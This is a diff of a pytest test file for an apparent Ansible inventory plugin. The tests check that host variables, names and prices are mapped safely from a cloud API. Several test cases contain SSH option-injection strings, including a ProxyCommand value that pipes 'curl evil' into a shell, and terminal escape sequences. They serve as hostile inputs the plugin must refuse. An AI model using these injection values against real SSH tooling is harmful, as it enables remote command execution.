@@ -2,7 +2,12 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 """The pure mapping from API instances to hosts: variables, groups, names, filters, redaction."""
 
+import json
+
 import pytest
+
+from ansible import constants as C
+from ansible.vars.reserved import get_reserved_names
 
 from ansible_collections.shadeform.cloud.plugins.plugin_utils import hosts
 
@@ -21,7 +26,7 @@ def test_labels_from_key_value_and_key_colon_value_tags():
 
 
 def test_host_variables_copy_every_field_and_add_shortcuts(example):
-    variables, skipped = hosts.host_variables(example)
+    variables, skipped, _refused = hosts.host_variables(example)
 
     assert skipped == []
     for field, value in example.items():
@@ -37,7 +42,7 @@ def test_host_variables_copy_every_field_and_add_shortcuts(example):
 
 
 def test_host_variables_prefix_and_suffix(example):
-    variables, dummy = hosts.host_variables(example, prefix="sf_", suffix="_api")
+    variables, _skipped, _refused = hosts.host_variables(example, prefix="sf_", suffix="_api")
     assert variables["sf_id_api"] == example["id"]
     assert variables["sf_gpu_type_api"] == "A100"
     assert variables["sf_labels_api"] == {}
@@ -54,12 +59,12 @@ def test_host_variables_prefix_and_suffix(example):
     ({"ssh_port": "\u00b2"}, {"ansible_host": hosts.NO_ADDRESS}),
 ])
 def test_connection_variables_only_hold_usable_api_values(fields, expected):
-    assert hosts.connection_variables(dict(fields, id="i-1")) == expected
+    assert hosts.connection_variables(dict(fields, id="i-1"))[0] == expected
 
 
 def test_fields_never_become_ansible_variables_nor_invalid_names():
     instance = {"id": "i-1", "ansible_connection": "local", "bad-name": 1, "{{x}}": 2, "ip": "1.2.3.4"}
-    variables, skipped = hosts.host_variables(instance, prefix="", suffix="")
+    variables, skipped, _refused = hosts.host_variables(instance, prefix="", suffix="")
     assert "ansible_connection" not in variables
     assert variables["ansible_host"] == "1.2.3.4"
     assert variables["id"] == "i-1"
@@ -69,7 +74,7 @@ def test_fields_never_become_ansible_variables_nor_invalid_names():
 def test_fields_never_take_a_magic_variable_or_template_global_name():
     reserved = ["omit", "item", "inventory_hostname", "group_names", "groups", "hostvars", "lookup", "q", "range", "undef"]
     instance = dict({"id": "i-1"}, **dict((name, "api") for name in reserved))
-    variables, skipped = hosts.host_variables(instance, prefix="", suffix="")
+    variables, skipped, _refused = hosts.host_variables(instance, prefix="", suffix="")
     assert not set(reserved) & set(variables)
     assert sorted(skipped) == sorted(reserved)
     assert variables["id"] == "i-1"
@@ -157,7 +162,7 @@ def test_host_names_have_no_whitespace_or_commas():
 
 
 def test_a_field_name_ending_in_a_newline_is_no_variable_name():
-    variables, skipped = hosts.host_variables({"id": "i-1", "status\n": "x"})
+    variables, skipped, _refused = hosts.host_variables({"id": "i-1", "status\n": "x"})
     assert skipped == ["status\n"]
     assert "shadeform_status\n" not in variables
 
@@ -197,3 +202,99 @@ def test_inventory_hosts_without_default_groups_and_with_preferred_names(example
                                     preferred_names=lambda valid, variables: [
                                         "gpu:{0}".format(v["shadeform_id"]) if i["id"] == "i-2" else None for i, v in zip(valid, variables)])
     assert [name for name, _variables, _groups in mapping.hosts] == ["cool-gpu-server", "gpu_i-2"]
+
+
+# --- API values that are no address, user or port (ssh_endpoint is the one parser) -----------------------------------
+
+@pytest.mark.parametrize("fields, expected, refused", [
+    ({"ip": "-oProxyCommand=touch /tmp/x", "ssh_user": "ubuntu", "ssh_port": 22},
+     {"ansible_host": hosts.NO_ADDRESS, "ansible_user": "ubuntu", "ansible_port": 22}, ("ip",)),
+    ({"ip": "10.0.0.1", "ssh_user": "-oBatchMode=no", "ssh_port": "18022"}, {"ansible_host": "10.0.0.1", "ansible_port": 18022},
+     ("ssh_user",)),
+    ({"ip": "10.0.0.1 -p 2", "ssh_user": "root@evil", "ssh_port": "22 -v"}, {"ansible_host": hosts.NO_ADDRESS},
+     ("ip", "ssh_user", "ssh_port")),
+    ({"ip": "gpu.example.com\n", "ssh_user": None, "ssh_port": None}, {"ansible_host": "gpu.example.com"}, ()),
+])
+def test_connection_variables_refuse_values_ssh_could_read_as_options(fields, expected, refused):
+    assert hosts.connection_variables(dict(fields, id="i-1")) == (expected, refused)
+
+
+def test_a_refused_ssh_value_is_one_warning_naming_host_and_field_never_the_raw_value(example):
+    hostile = dict(example, id="h-1", name="gpu\x1b[31m", ip="-oProxyCommand=curl evil|sh", ssh_port="x\x9b2J")
+    mapping = hosts.inventory_hosts([hostile, dict(example, id="h-2", name="fine")], mapping_options())
+    [warning] = [text for text in mapping.warnings if "not used" in text]
+    assert "Shadeform host 'gpu__31m': its ip and ssh_port from the API are not a valid IP address or host name / port" in warning
+    assert "-oProxyCommand" not in warning and "\x1b" not in warning and "\x9b" not in warning
+    assert dict((name, variables["ansible_host"]) for name, variables, _groups in mapping.hosts) == {
+        "gpu__31m": hosts.NO_ADDRESS, "fine": "1.0.0.1"}
+
+
+def test_refused_ssh_values_of_a_large_fleet_are_summed_up(example):
+    fleet = [dict(example, id="h-%d" % index, name="h%d" % index, ip="-o%d" % index) for index in range(10)]
+    warnings = [text for text in hosts.inventory_hosts(fleet, mapping_options()).warnings if "not used" in text]
+    assert len(warnings) == hosts.MAX_RENAME_WARNINGS + 1 and warnings[-1].startswith("7 more Shadeform hosts")
+
+
+# --- Control characters, NaN, reserved names, dollars ----------------------------------------------------------------
+
+def test_c1_control_characters_never_reach_host_or_group_names(example):
+    odd = dict(example, name="a\x9b31mb\x85c\x7f", tags=["t\x9b1"], region="r\x1bx")
+    [(name, _variables, groups)] = hosts.inventory_hosts([odd], mapping_options()).hosts
+    assert name == "a_31mb_c_"
+    assert not [group for group in groups if any(0x7f <= ord(char) <= 0x9f or ord(char) < 0x20 for char in group)], groups
+    assert "tag_t_1" in groups and "region_r_x" in groups
+
+
+def test_nan_and_infinity_are_absent_fields_with_one_warning(example):
+    odd = dict(example, id="n-1", hourly_price=float("nan"), ssh_port=float("inf"),
+               configuration=dict(example["configuration"], vcpus=float("-inf")), tags=["a", float("nan")])
+    finite, warning = hosts.without_non_finite([odd, dict(example, id="n-2", name="fine")])
+    mapping = hosts.inventory_hosts(finite, mapping_options())
+    (_name, variables, _groups), (_fine, fine, _fine_groups) = mapping.hosts
+    for name in ("shadeform_hourly_price", "shadeform_hourly_price_usd", "ansible_port", "shadeform_ssh_port"):
+        assert name not in variables
+    assert "vcpus" not in variables["shadeform_configuration"] and variables["shadeform_tags"] == ["a", None]
+    assert fine["shadeform_hourly_price"] == 210
+    assert "NaN or Infinity" in warning and "'n-1': " in warning and all(path in warning.split(": ", 2)[2].split(", ") for path in (
+        "hourly_price", "ssh_port", "configuration.vcpus", "tags.1"))
+    assert odd["hourly_price"] != odd["hourly_price"]  # the input is left alone
+    json.dumps([variables, fine], allow_nan=False)
+
+
+def test_finite_instances_are_passed_on_as_they_are(example):
+    instances = [example]
+    assert hosts.without_non_finite(instances) == (instances, None)
+    assert hosts.without_non_finite(instances)[0] is instances
+
+
+@pytest.mark.parametrize("name", ["name", "loop", "tags", "port", "when", "environment", "become", "vars", "hosts", "lookup", "omit",
+                                  "inventory_hostname", "item"])
+def test_reserved_names_come_from_ansible_core(name):
+    assert name in hosts.RESERVED_VARIABLE_NAMES
+    assert name in get_reserved_names() or name in C.INTERNAL_STATIC_VARS or name in ("lookup", "omit", "item")
+
+
+@pytest.mark.parametrize("fields, expected", [
+    ({"hourly_price": 210}, 2.1),
+    ({"hourly_price": 0}, 0.0),
+    ({"hourly_price": 210, "rental_terms": {"rental_type": "spot", "hourly_price": "0.85", "ending_at": None}}, 0.85),
+    ({"hourly_price": 210, "rental_terms": {"rental_type": "on_demand", "hourly_price": "2.10"}}, 2.1),
+    ({"hourly_price": 9900, "rental_terms": {"rental_type": "commitment", "ending_at": "2027-01-01T00:00:00Z"}}, 99.0),
+    ({"hourly_price": 210, "rental_terms": {"rental_type": "spot", "hourly_price": "nan"}}, None),
+    ({"hourly_price": 210, "rental_terms": {"rental_type": "spot"}}, None),
+    ({"hourly_price": "210"}, None),
+    ({"hourly_price": -5}, None),
+    ({"hourly_price": True}, None),
+    ({}, None),
+])
+def test_hourly_price_usd_is_dollars_and_the_api_field_keeps_its_cents(example, fields, expected):
+    instance = dict(example, **fields)
+    if "hourly_price" not in fields:
+        del instance["hourly_price"]
+    variables = hosts.host_variables(instance).variables
+    if expected is None:
+        assert "shadeform_hourly_price_usd" not in variables
+    else:
+        assert variables["shadeform_hourly_price_usd"] == expected and isinstance(variables["shadeform_hourly_price_usd"], float)
+    assert variables.get("shadeform_hourly_price") == fields.get("hourly_price")
+    assert "sf_hourly_price_usd_x" in hosts.host_variables(dict(example), prefix="sf_", suffix="_x").variables
